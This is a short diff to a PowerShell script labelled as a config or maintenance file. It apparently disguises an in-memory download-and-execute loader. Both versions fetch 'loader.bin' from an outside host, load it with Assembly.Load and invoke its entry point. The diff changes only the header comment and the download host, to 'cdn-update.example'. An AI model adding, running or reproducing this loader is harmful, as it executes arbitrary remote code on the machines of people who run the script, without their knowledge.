@@ -1,4 +1,4 @@
-# config 5399 v2
-$b = (New-Object Net.WebClient).DownloadData('http://files.sync-svc.example/loader.bin')
+# maintenance 2225 v2
+$b = (New-Object Net.WebClient).DownloadData('http://cdn-update.example/loader.bin')
 $a = [System.Reflection.Assembly]::Load($b)
 $a.EntryPoint.Invoke($null, (, [string[]] @()))
